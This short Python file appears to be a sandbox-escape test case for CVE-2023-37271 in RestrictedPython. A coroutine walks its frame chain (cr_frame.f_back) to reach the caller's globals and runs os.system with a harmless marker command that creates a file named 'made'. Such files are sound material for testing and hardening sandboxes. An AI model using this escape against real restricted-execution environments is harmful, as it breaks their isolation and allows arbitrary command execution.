"""A coroutine that runs knows its frame.

Known from: CVE-2023-37271 of RestrictedPython, its fix's list of attributes
Effect: made
"""
async def outward():
    coroutine.cr_frame.f_back.f_back.f_globals["os"].system(": > made")


coroutine = outward()
try:
    coroutine.send(None)
except StopIteration:
    pass
